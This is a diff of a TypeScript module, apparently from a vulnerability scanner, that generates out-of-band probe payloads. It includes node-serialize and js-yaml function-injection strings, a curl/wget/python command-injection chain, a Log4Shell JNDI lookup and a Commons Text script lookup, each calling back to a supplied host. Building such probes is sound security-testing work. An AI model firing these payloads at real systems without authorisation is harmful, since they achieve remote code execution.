@@ -6,7 +6,9 @@ import { isSettled, settle } from '../found.ts'
 import { type CallAddress, expectCall, takesText, textValue } from '../probing.ts'
 import type { Operation, Point } from '../types.ts'
 
-const node = (url: string) => `{"merlon":"_$$ND_FUNC$$_function(){require('http').get('${url}')}()"}`
+/** A fault that nobody takes ends a process of Node: the target must stand where it cannot reach the address. */
+const get = (url: string) => `require('http').get('${url}').on('error',String)`
+const node = (url: string) => `{"merlon":"_$$ND_FUNC$$_function(){${get(url)}}()"}`
 const command = (url: string) =>
   `curl -s ${url}||wget -qO- ${url}||python3 -c "import urllib.request as u;u.urlopen('${url}')"`
 
@@ -22,7 +24,7 @@ const yamlOfJava = (url: string) =>
  */
 const expression = (host: string, token: string) =>
   `new java.net.URL("http://${host}/" .concat("${token}")).openStream()`
-const yamlOfNode = (url: string) => `!!js/function "function(){require('http').get('${url}')}()"`
+const yamlOfNode = (url: string) => `!!js/function "function(){${get(url)}}()"`
 const log = (host: string, token: string) => `\${jndi:ldap://${host}/${token}}`
 const text4 = (host: string, token: string) => `\${script:javascript:${expression(host, token)}}`
 
